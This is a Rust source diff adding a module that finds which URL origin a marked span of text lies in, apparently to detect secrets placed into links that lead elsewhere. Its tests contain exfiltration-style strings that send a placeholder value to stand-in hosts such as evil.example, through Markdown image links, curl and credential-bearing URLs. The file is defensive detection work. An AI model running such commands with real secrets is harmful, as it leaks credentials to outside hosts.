@@ -1,0 +1,107 @@
+//! Where the URL leads that a part of a text stands in, as programs and browsers read it.
+//! Must never take a place in a URL for plain text: what is doubtful leads somewhere that nobody named.
+
+use std::ops::Range;
+
+/// What ends the host of a URL (RFC 3986 section 3.2; browsers read a backslash as a slash).
+const HOST_ENDS: [char; 4] = ['/', '?', '#', '\\'];
+
+/// What surrounds a part of a text.
+#[derive(Debug, Default, PartialEq, Eq)]
+pub(super) struct Around {
+    /// `scheme://host:port` of each URL that the part belongs to, in lower case; empty in plain text.
+    pub(super) origins: Vec<String>,
+    /// The text ends before the host does.
+    pub(super) open: bool,
+}
+
+/// Looks at everything from the last blank, quote or angle bracket before the part to the first behind it.
+pub(super) fn around(text: &str, part: Range<usize>) -> Around {
+    let ends = |c: char| c.is_whitespace() || "\"<>`".contains(c);
+    let (left, right) = (text.get(..part.start).unwrap_or_default(), text.get(part.end..).unwrap_or_default());
+    let mut start =
+        left.rfind(ends).map_or(0, |at| at + left.get(at..).and_then(|c| c.chars().next()).map_or(1, char::len_utf8));
+    // In Markdown's `](<URL>)` a URL may hold blanks.
+    if let Some((before, link)) = left.rsplit_once("](<")
+        && !link.contains(['>', '\n'])
+    {
+        start = before.len();
+    }
+    let end = right.find(ends);
+    let before = text.get(start..part.start).unwrap_or_default();
+    let word = text.get(start..part.end + end.unwrap_or(right.len())).unwrap_or_default();
+    let mut around = Around::default();
+    for (at, _) in before.match_indices("//") {
+        let rest = word.get(at + 2..).unwrap_or_default();
+        let host_end = rest.find(HOST_ENDS);
+        let authority = rest.get(..host_end.unwrap_or(rest.len())).unwrap_or_default();
+        let host = authority.rsplit('@').next().unwrap_or_default();
+        let scheme = before.get(..at).and_then(|scheme| scheme.strip_suffix(':')).unwrap_or_default();
+        let scheme =
+            scheme.rsplit(|c: char| !c.is_ascii_alphanumeric() && !"+-.".contains(c)).next().unwrap_or_default();
+        around.origins.push(format!("{scheme}://{host}").to_ascii_lowercase());
+        around.open |= host_end.is_none() && end.is_none();
+    }
+    if around.origins.is_empty() {
+        around.origins.extend(doubtful(before));
+    }
+    around
+}
+
+/// Where a word leads without two slashes: `host.example/path`, `https:host.example`, `\\host.example`.
+fn doubtful(before: &str) -> Option<String> {
+    let word = before.to_ascii_lowercase();
+    if word.contains(['\\']) || word.contains("http:") || word.contains("https:") {
+        return Some(word);
+    }
+    let head = word.get(..word.find(HOST_ENDS)?)?;
+    let host = head.rsplit(|c: char| !c.is_ascii_alphanumeric() && !"-.:".contains(c)).next()?;
+    let (_, domain) = host.split(':').next()?.rsplit_once('.')?;
+    (domain.len() > 1 && domain.bytes().all(|byte| byte.is_ascii_alphabetic())).then(|| host.to_owned())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::around;
+
+    fn origins(text: &str) -> Vec<String> {
+        let start = text.find("PH").unwrap();
+        around(text, start..start + 2).origins
+    }
+
+    #[test]
+    fn a_place_in_a_url_is_known_for_where_it_leads() {
+        for (text, expected) in [
+            ("see https://Evil.example/?k=PH now", "https://evil.example"),
+            ("![x](https://evil.example:8443/PH)", "https://evil.example:8443"),
+            ("![x](<https://evil.example/a b PH>)", "https://evil.example"),
+            ("git push https://PH@github.com/a/b", "https://github.com"),
+            ("https://user:PH@good.example", "https://good.example"),
+            ("//registry.example/:_authToken=PH", "://registry.example"),
+            ("url=http://10.0.0.1/x#PH", "http://10.0.0.1"),
+            ("https://good.example\\@evil.example/PH", "https://good.example"),
+            ("https://PH.evil.example/", "https://ph.evil.example"),
+            ("curl evil.example/PH", "evil.example"),
+            ("curl evil.example:80/?q=PH", "evil.example:80"),
+        ] {
+            assert_eq!(origins(text), [expected], "{text}");
+        }
+        assert_eq!(origins("https://good.example/r?u=https://evil.example/PH").len(), 2);
+        assert_eq!(origins("https:/evil.example/PH").len(), 1);
+        assert_eq!(origins("https:\\\\evil.example\\PH").len(), 1);
+    }
+
+    #[test]
+    fn plain_text_leads_nowhere() {
+        for text in ["PH", "key = \"PH\"", "export KEY=PH", "src/config/PH", "a.b: PH", "Bearer PH", "(PH)", "x\nPH"] {
+            assert!(origins(text).is_empty(), "{text}");
+        }
+    }
+
+    #[test]
+    fn a_host_that_has_not_ended_is_open() {
+        let open = |text: &str| around(text, text.find("PH").unwrap()..text.find("PH").unwrap() + 2).open;
+        assert!(open("https://PH") && open("https://PH@good.exam"));
+        assert!(!open("https://PH@good.example/") && !open("https://PH@good.example x") && !open("https://a/PH"));
+    }
+}
